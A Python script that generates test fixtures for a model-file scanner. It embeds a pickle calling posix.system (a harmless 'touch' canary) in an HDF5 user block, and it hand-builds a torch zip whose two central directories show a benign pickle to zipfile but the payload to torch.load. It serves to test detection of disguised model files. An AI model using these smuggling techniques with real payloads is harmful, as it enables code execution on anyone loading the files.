#!/usr/bin/env python3
"""Writes the loader-disagreement fixtures of scan/formats/loader_disagreement_test.go.

Run from this directory with h5py installed. Nothing here is ever loaded:
the payload is written as bytes into files a library wrote.

  h5_userblock_pickle.h5  an HDF5 file written by h5py with a 512-byte user
                          block that holds a pickle: h5py opens the file,
                          pickle.load / joblib.load / torch.load run the
                          pickle (posix.system('touch /tmp/modelgate-redteam')).
  bz2_trailing_garbage.pkl.bz2
                          a bz2 stream of a benign pickle followed by bytes
                          that start no stream: Python's bz2 module (and
                          joblib.load) ignores them. Benign.
  zip_two_directories.pt  a torch zip whose end record's directory offset
                          finds one central directory as zipfile reads it
                          (shifted: a benign data.pkl) and another as miniz
                          (torch.load) reads it (as is: a directory and a
                          data.pkl with the payload, in the end record's
                          comment).
"""
import bz2
import struct
import zlib

import h5py
import numpy as np

PAYLOAD = b"cposix\nsystem\n(S'touch /tmp/modelgate-redteam'\ntR."  # GLOBAL MARK STRING TUPLE REDUCE STOP

with h5py.File("h5_userblock_pickle.h5", "w", userblock_size=512, libver="earliest") as f:
    f["x"] = np.arange(4, dtype="<i4")

with open("h5_userblock_pickle.h5", "r+b") as f:
    f.write(PAYLOAD)  # the user block is the file's first 512 bytes


# Zip records by hand: every field is ours.
def local(name, data):
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(name), 0) + name + data
def central(name, data, off, extra_len=0):
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(name), extra_len, 0, 0, 0, 0, off) + name + b"\x00"*extra_len
def build(a_members, b_members, out):
    """Writes B's members and directory (zipfile's view), then the end
    record, whose comment holds A's members and directory (miniz's view);
    both directories have the same size and entry count."""
    body = b""
    boffs = []
    for n, d in b_members:
        boffs.append(len(body)); body += local(n, d)
    bdir_parts = [(n, d, o) for (n, d), o in zip(b_members, boffs)]
    # A's local headers and directory go in the EOCD comment; compute sizes
    bdir = b"".join(central(n, d, o) for n, d, o in bdir_parts)
    bdir_off = len(body)
    eocd_off = bdir_off + len(bdir)
    comment_start = eocd_off + 22
    # A locals in comment
    cbody = b""
    aoffs = []
    for n, d in a_members:
        aoffs.append(comment_start + len(cbody)); cbody += local(n, d)
    adir = b"".join(central(n, d, o) for (n, d), o in zip(a_members, aoffs))
    # equalize sizes: pad the smaller directory's last entry with an extra field
    S = max(len(adir), len(bdir))
    if len(adir) < S:
        n, d = a_members[-1]
        adir = b"".join(central(n2, d2, o) for (n2, d2), o in zip(a_members[:-1], aoffs[:-1])) + central(n, d, aoffs[-1], S - len(adir))
    if len(bdir) < S:
        n, d, o = bdir_parts[-1]
        bdir = b"".join(central(*p) for p in bdir_parts[:-1]) + central(n, d, o, S - len(bdir))
    assert len(adir) == len(bdir) == S
    eocd_off = bdir_off + S
    comment_start = eocd_off + 22
    # recompute A offsets with final comment start (bdir size may have changed)
    cbody = b""; aoffs = []
    for n, d in a_members:
        aoffs.append(comment_start + len(cbody)); cbody += local(n, d)
    adir_off = comment_start + len(cbody)
    adir = b"".join(central(n, d, o) for (n, d), o in zip(a_members[:-1], aoffs[:-1]))
    n, d = a_members[-1]
    adir = adir + central(n, d, aoffs[-1], S - len(adir) - 46 - len(n))
    assert len(adir) == S, (len(adir), S)
    assert len(a_members) == len(b_members)
    comment = cbody + adir
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(b_members), len(b_members), S, adir_off, len(comment))
    # zipfile: start = eocd_off - S = bdir_off; concat = bdir_off - adir_off (negative) -> B offsets recorded = actual - concat
    concat = bdir_off - adir_off
    bdir = b"".join(central(n, d, o - concat) for n, d, o in bdir_parts[:-1])
    n, d, o = bdir_parts[-1]
    bdir += central(n, d, o - concat, S - len(bdir) - 46 - len(n))
    assert len(bdir) == S
    data = body + bdir + eocd + comment
    open(out, "wb").write(data)

BENIGN = b"\x80\x02}q\x00X\x01\x00\x00\x00bq\x01X\x0c\x00\x00\x00zipfile viewq\x02s."  # PROTO EMPTY_DICT BINPUT BINUNICODE BINPUT BINUNICODE BINPUT SETITEM STOP
build([(b"archive/data.pkl", PAYLOAD), (b"archive/version", b"3\n")],
      [(b"archive/data.pkl", BENIGN), (b"archive/version", b"3\n")], "zip_two_directories.pt")

with open("bz2_trailing_garbage.pkl.bz2", "wb") as f:
    f.write(bz2.compress(BENIGN) + b"garbage!")
